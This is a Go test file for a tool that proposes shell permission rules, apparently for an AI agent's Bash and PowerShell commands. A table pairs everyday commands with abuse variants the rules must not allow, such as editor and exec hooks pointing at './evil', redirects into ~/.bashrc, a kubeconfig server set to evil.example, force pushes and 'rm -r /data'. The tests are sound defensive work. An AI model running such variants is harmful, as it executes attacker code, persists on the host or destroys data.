package suggest_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed49eaa51d/pegboard/internal/pattern"
	"github.com/seed49eaa51d/pegboard/internal/shellparse"
	"github.com/seed49eaa51d/pegboard/internal/suggest"
)

// requireProven says that each of the proposals for a text is worth a rule.
func requireProven(t *testing.T, tool, text string, proposals []string) {
	t.Helper()
	require.LessOrEqual(t, len(proposals), 2)
	for _, p := range proposals {
		s, err := pattern.Parse(tool, p)
		require.NoError(t, err, "%q", p)
		require.True(t, s.Covers(pattern.Subject{Kind: pattern.Command, Names: []string{text}}), "%q does not cover %q", p, text)
		wild := strings.HasSuffix(p, " *")
		require.True(t, wild || !pattern.Broad(tool, p), "%q", p)
		require.Equal(t, wild, strings.Contains(p, "*"), "%q", p)
		require.True(t, wild || p == text, "%q is neither a prefix nor %q", p, text)
		require.NotContains(t, p, "\n")
	}
}

func TestCommandProposes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, tool, text string
		want             []string
	}{
		{name: "a prefix first", text: "git add -v x", want: []string{"git add *", "git add -v x"}},
		{name: "without arguments", text: "git add", want: []string{"git add *", "git add"}},
		{name: "three words", text: "git stash push -m x", want: []string{"git stash push *", "git stash push -m x"}},
		{name: "two of three words", text: "git stash", want: []string{"git stash"}},
		{name: "another sub-command that begins so", text: "git addendum x", want: []string{"git addendum x"}},
		{name: "lines in a quote", text: "git add -v 'a\nb'", want: []string{"git add *"}},
		{name: "a substitution", text: `git add -v "$(cat msg)"`, want: []string{"git add *"}},
		{name: "a message from the input", text: "git add --pathspec-from-file -", want: []string{"git add *"}},
		{name: "a star", text: "git add *.go", want: []string{"git add *"}},
		{name: "long", text: "git add " + strings.Repeat("a", 300), want: []string{"git add *"}},
		{name: "fed by xargs", text: "git add …", want: []string{"git add *"}},
		{name: "a commit", text: "git commit -m x", want: []string{"git commit -m x"}},
		{name: "not in the table", text: "npm install", want: []string{"npm install"}},
		{name: "a script by its name", text: "npm run test:unit -- -t x", want: []string{"npm run test:unit *", "npm run test:unit -- -t x"}},
		{name: "no script", text: "npm run", want: []string{"npm run"}},
		{name: "an option before the script", text: "npm run -s test", want: []string{"npm run -s test"}},
		{name: "a script that is a path", text: "bun run ./a.ts", want: []string{"bun run ./a.ts"}},
		{name: "a script in quotes", text: "npm run 'a'", want: []string{"npm run 'a'"}},
		{name: "a script that ends like a prefix", text: "npm run a: b", want: []string{"npm run a: *", "npm run a: b"}},
		{name: "a build", text: "go test ./...", want: []string{"go test *", "go test ./..."}},
		{name: "a build behind options", text: "go -C dir test", want: []string{"go -C dir test"}},
		{name: "a program alone", text: "pytest", want: []string{"pytest *", "pytest"}},
		{name: "a program behind a launcher", text: "uv run pytest -x", want: []string{"uv run pytest *", "uv run pytest -x"}},
		{name: "options of a launcher", text: "uv run --all-extras pytest", want: []string{"uv run --all-extras pytest"}},
		{name: "one target of many", text: "make test", want: []string{"make test"}},
		{name: "behind options", text: "git -C dir add", want: []string{"git -C dir add"}},
		{name: "behind a variable", text: "CC=gcc make test", want: []string{"CC=gcc make test"}},
		{name: "by a path", text: "/usr/bin/git add", want: []string{"/usr/bin/git add"}},
		{name: "a quoted sub-command", text: `git "add" x`, want: []string{`git "add" x`}},
		{name: "an escaped sub-command", text: `git a\dd x`, want: []string{`git a\dd x`}},
		{name: "a sub-command that goes on", text: "git add'x' y", want: []string{"git add'x' y"}},
		{name: "braces", text: "git add{,} y", want: []string{"git add{,} y"}},
		{name: "what a quote keeps", text: "mawk '{ print $1 }' f", want: []string{"mawk '{ print $1 }' f"}},
		{name: "find", text: "find . -name x -delete", want: []string{"find . -name x -delete"}},
		{name: "a script", text: "python3 a.py -v", want: []string{"python3 a.py -v"}},
		{name: "a text of Python", text: "python3 -u -c 'print(1)'", want: []string{"python3 -u -c 'print(1)'"}},
		{name: "a command elsewhere", text: "ssh host uptime", want: []string{"ssh host uptime"}},
		{name: "PowerShell", tool: "PowerShell", text: `Remove-Item 'C:\a b\'`, want: []string{`Remove-Item 'C:\a b\'`}},
		{name: "git in PowerShell", tool: "PowerShell", text: "git add .", want: []string{"git add *", "git add ."}},
		{name: "Monitor", tool: "Monitor", text: "tail -f x", want: []string{"tail -f x"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tool := tc.tool
			if tool == "" {
				tool = "Bash"
			}
			got := suggest.Command(tool, tc.text)
			require.Equal(t, tc.want, got)
			requireProven(t, tool, tc.text, got)
		})
	}
}

func TestCommandProposesNothing(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, tool, text string }{
		{name: "no text"},
		{name: "blanks around it", text: " ls"},
		{name: "no shell", tool: "Edit", text: "git add"},
		{name: "too long for any rule", text: "git add " + strings.Repeat("a", 10_000)},
		{name: "too long to remember", text: "make " + strings.Repeat("a", 300)},
		{name: "no UTF-8", text: "git add \xff"},
		{name: "a control character", text: "git add \x1b[2K"},
		{name: "a control character of Unicode", text: "git add \u0085"},
		{name: "several lines", text: "make 'a\nb'"},
		{name: "a tab", text: "make 'a\tb'"},
		{name: "a letter nobody sees", text: "make te\u200bst"},
		{name: "a change of direction", text: "make \u202etset"},
		{name: "a star", text: "rm *.o"},
		{name: "the end of a prefix", text: "make a:*"},
		{name: "a variable", text: `rm "$x"`},
		{name: "a quote in a quote", text: `rm "'$x'"`},
		{name: "behind an escaped quote", text: `rm \'$x\'`},
		{name: "a substitution", text: "rm `cat list`"},
		{name: "an open quote", text: "rm 'a"},
		{name: "xargs adds to it", text: "rm …"},
		{name: "it looks like a parameter", text: "description:x"},
		{name: "variables alone", text: "PATH=./bin B+=c"},
		{name: "a variable for what follows", text: "export PATH=./bin"},
		{name: "commands of a file for what follows", text: "source env.sh"},
		{name: "an alias of PowerShell", tool: "PowerShell", text: "Set-Alias git evil"},
		{name: "a variable of PowerShell", tool: "PowerShell", text: "Set-Item Env:PATH bin"},
		{name: "an interpreter alone", text: "python3"},
		{name: "an interpreter with options", text: "python3.12 -u"},
		{name: "an interpreter of its input", text: "python3 - a"},
		{name: "a shell of its input", text: "bash -s a"},
		{name: "by a path", text: "/usr/bin/perl"},
		{name: "behind a variable", text: "A=b node"},
		{name: "at the end of another", text: "docker exec -i box bash"},
		{name: "a manifest of the input", text: "kubectl apply -f -"},
		{name: "glued", text: "kubectl apply -f-"},
		{name: "behind an equals sign", text: "kubectl apply --filename=-"},
		{name: "quoted", text: "make -f '-'"},
		{name: "the input by its path", text: "make -f /dev/stdin"},
		{name: "a shell elsewhere", text: "ssh host"},
		{name: "a database", text: "psql db"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tool := tc.tool
			if tool == "" {
				tool = "Bash"
			}
			require.Nil(t, suggest.Command(tool, tc.text))
		})
	}
}

func TestCommandWithInputProposes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, text string
		want       []string
	}{
		{name: "a filter", text: "sort -u -o x", want: []string{"sort -u -o x"}},
		{name: "a program of its own", text: "./import"},
		{name: "an interpreter of a file", text: "python3 a.py"},
		{name: "an editor", text: "sed e"},
		{name: "a writer", text: "tee x"},
		{name: "a prefix", text: "git add -v x", want: []string{"git add *"}},
		{name: "a filter told to", text: "grep -f - x"},
		{name: "no command"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, tc.want, suggest.CommandWithInput("Bash", tc.text))
		})
	}
}

func FuzzCommand(f *testing.F) {
	for _, text := range []string{
		"", "git add -v 'a\nb'", "git add …", `rm "$x"`, "python3 -", "A=b make", "=", " ", "'", `\`, "a:b", "-", "git\tcommit", "\xff", "git stash push *", "' '",
	} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, tool := range []string{"Bash", "PowerShell", "Monitor"} {
			got := suggest.Command(tool, text)
			requireProven(t, tool, text, got)
			require.Equal(t, got, suggest.Command(tool, text))
		}
		require.Nil(t, suggest.Command("Read", text))
	})
}

func BenchmarkCommand(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		suggest.Command("Bash", "git add -v 'a message of some words'")
	}
}

// parseLine reads a line of Bash in a directory that need not exist.
func parseLine(line string) shellparse.Line {
	return shellparse.Parse(line, shellparse.Env{Dir: "/home/me/proj", Home: "/home/me"})
}

// proposals are all proposals for the commands of a line.
func proposals(line string) (all []string) {
	for _, c := range parseLine(line).Commands {
		all = append(all, suggest.Command("Bash", c.Text)...)
	}
	return all
}

// covers reports whether a rule of Bash covers a command.
func covers(t *testing.T, spec string, c shellparse.Command) bool {
	t.Helper()
	s, err := pattern.Parse("Bash", spec)
	require.NoError(t, err)
	if len(c.Starts) > 0 {
		return s.Covers(pattern.Subject{Kind: pattern.Command, Names: c.Starts})
	}
	return s.Covers(pattern.Subject{Kind: pattern.Command, NoWildcards: c.NoWildcards, Names: []string{c.Text}})
}

// allowed reports whether rules let a line run without a question, as far as
// its text tells: it is understood, writes nothing by redirection, and each of
// its commands only reads or is covered.
func allowed(t *testing.T, specs []string, line string) bool {
	t.Helper()
	l := parseLine(line)
	writes := slices.ContainsFunc(l.Paths, func(p shellparse.Path) bool { return p.Write })
	if l.Unknown != "" || writes || len(l.Commands) == 0 {
		return false
	}
	for _, c := range l.Commands {
		covered := slices.ContainsFunc(specs, func(s string) bool { return covers(t, s, c) })
		if c.AskReason != "" || !covered && c.Class != shellparse.ReadOnly {
			return false
		}
	}
	return true
}

// everyday are commands that people are asked about and remember, each with what
// the same program must not do for that.
var everyday = []struct{ line, abuse string }{
	{"git add .", "git -c filter.x.clean=./evil add ."},
	{"git add src", "git --exec-path=. add src"},
	{"git add -A", "git --work-tree=/ --git-dir=/opt/g add -A"},
	{"git commit -m x", "git -c core.editor=./evil commit"},
	{"git commit -am x", "GIT_EDITOR=./evil git commit"},
	{"git commit --amend", "git commit --amend; git push --force"},
	{"git commit -m y", "git commit -m y > ~/.bashrc"},
	{"git commit -m z", "git commit -m $(./evil)"},
	{"git commit", "./git commit"},
	{"git commit -v", "git() { ./evil; }; git commit -v"},
	{"git stash push -m x", "git stash drop"},
	{"git stash", "git stash clear"},
	{"git stash pop", "git stash pop; git stash clear"},
	{"git push", "git push --force"},
	{"git push origin main", "git push origin :main"},
	{"git pull", "git pull --upload-pack=./evil"},
	{"git fetch", "git fetch --upload-pack=./evil ."},
	{"git clone https://host/x", "git clone -u ./evil x"},
	{"git switch main", "git switch --discard-changes main"},
	{"git checkout -b x", "git checkout -f -b x"},
	{"git restore a", "git restore ."},
	{"git reset HEAD", "git reset HEAD --hard"},
	{"git merge side", "git merge -s ../evil side"},
	{"git cherry-pick side", "git cherry-pick --strategy=../evil side"},
	{"git rebase main", "git rebase main --exec ./evil"},
	{"git tag v1", "git tag -d v1"},
	{"git branch x", "git branch -D x"},
	{"git config user.name x", "git config core.hooksPath x"},
	{"npm run test", "npm run test --script-shell=./evil"},
	{"npm test", "npm test --prefix ../other"},
	{"npm run build", "npm run build; ./evil"},
	{"npm install", "npm install evil"},
	{"npx tsc", "npx evil"},
	{"pnpm run test", "pnpm run test --config=/opt/evil.js"},
	{"yarn test", "yarn test --globalSetup=/opt/evil.js"},
	{"bun run build", "bun run build --plugin=/opt/evil.js"},
	{"make test", "make test SHELL=./evil"},
	{"make", "make --eval='x:;./evil' x"},
	{"make build", "make build -f /opt/Makefile"},
	{"cargo test", "cargo test --config build.rustc-wrapper=./evil"},
	{"cargo build", "cargo build --target-dir=/opt"},
	{"cargo clippy", "cargo clippy --fix"},
	{"go build ./...", "go build -toolexec=./evil ./..."},
	{"go test ./...", "go test -exec=./evil ./..."},
	{"go vet ./...", "go vet -vettool=./evil ./..."},
	{"go run .", "go run /opt/evil.go"},
	{"pytest", "pytest -p evil"},
	{"pytest tests", "pytest tests --basetemp=/home/me"},
	{"python3 manage.py test", "python3 -c 'import evil'"},
	{"node build.js", "node -e 'evil()'"},
	{"pip install -r requirements.txt", "pip install evil"},
	{"pip list", "pip list --python=./evil"},
	{"docker compose up -d", "docker compose -f /opt/evil.yml up -d"},
	{"docker build .", "docker build /opt"},
	{"docker run app", "docker run -v /:/host app"},
	{"docker exec app ls", "docker exec app rm -r /data"},
	{"kubectl get pods", "kubectl get pods --kubeconfig=./evil"},
	{"kubectl describe pod x", "kubectl describe pod x --server=https://evil.example"},
	{"kubectl logs x", "kubectl delete pod x"},
	{"kubectl apply -f a.yml", "kubectl apply -f b.yml"},
	{"terraform validate", "terraform -chdir=/opt validate"},
	{"terraform output url", "terraform output url > ~/.bashrc"},
	{"terraform state list", "terraform state rm x"},
	{"terraform state show a", "terraform state push /opt/evil"},
	{"terraform plan", "terraform plan -out=/home/me/.bashrc"},
	{"gh pr view 1", "gh pr view 1 -R evil.example/a/b"},
	{"gh pr list", "gh pr list --web -R evil.example/secret/b"},
	{"tsc --noEmit", "tsc --noEmit --noEmit false --outDir /opt"},
	{"eslint .", "eslint . --rulesdir=/opt"},
	{"prettier --check .", "prettier --check . --plugin=/opt/evil.js"},
	{"ruff check", "ruff check --output-file=/home/me/.bashrc"},
	{"mvn test", "mvn test -Dexec=./evil"},
	{"ssh host uptime", "ssh host uptime -oProxyCommand=./evil"},
	{"curl https://host/x", "curl https://host/x -o /home/me/.bashrc"},
	{"rm a", "rm a b"},
	{"chmod +x a", "chmod +x a /opt/evil"},
	{"sudo ls", "sudo ls /root"},
	{"tar xf a.tar", "tar xf a.tar --to-command=./evil"},
	{"rsync -a x y", "rsync -a x y -e ./evil"},
	{"find . -delete", "find . -delete -exec ./evil ;"},
	{"PATH=./bin make", "PATH=./bin; ls"},
	{"export PATH=./bin && make", "export PATH=./bin; ls"},
	{"python3 < a.py", "python3 < /opt/evil.py"},
	{"cat x | python3 -", "echo evil | python3 -"},
}

// TestProposalsAllowNoAbuse: what is proposed for an everyday command does not
// allow what the same program can be made to do.
func TestProposalsAllowNoAbuse(t *testing.T) {
	t.Parallel()
	prefixed := 0
	for _, tc := range everyday {
		specs := proposals(tc.line)
		if slices.ContainsFunc(specs, func(s string) bool { return s != tc.line }) {
			prefixed++
		}
		require.Empty(t, parseLine(tc.line).Unknown, "%q", tc.line)
		require.False(t, allowed(t, specs, tc.abuse), "%q allows %q", specs, tc.abuse)
	}
	require.Greater(t, prefixed, 10)
}

// TestProposalsAllowTheLine: a command that is not about its input is not asked
// about again.
func TestProposalsAllowTheLine(t *testing.T) {
	t.Parallel()
	asked := []string{"export PATH=./bin && make", "python3 < a.py", "cat x | python3 -"}
	for _, tc := range everyday {
		require.Equal(t, !slices.Contains(asked, tc.line), allowed(t, proposals(tc.line), tc.line), "%q", tc.line)
	}
}

// TestPrefixesAllowOtherArguments: what a prefix is for.
func TestPrefixesAllowOtherArguments(t *testing.T) {
	t.Parallel()
	tests := []struct{ line, next string }{
		{"git add a", "git add b c"},
		{"git add a", "git add b && git status"},
		{"git stash push", "git stash push -u -m x -- src"},
		{"find . -name x | xargs git add", "git add y"},
		{"terraform output a", "terraform output -json b"},
	}
	for _, tc := range tests {
		require.True(t, allowed(t, proposals(tc.line), tc.next), "%q", tc.next)
	}
}
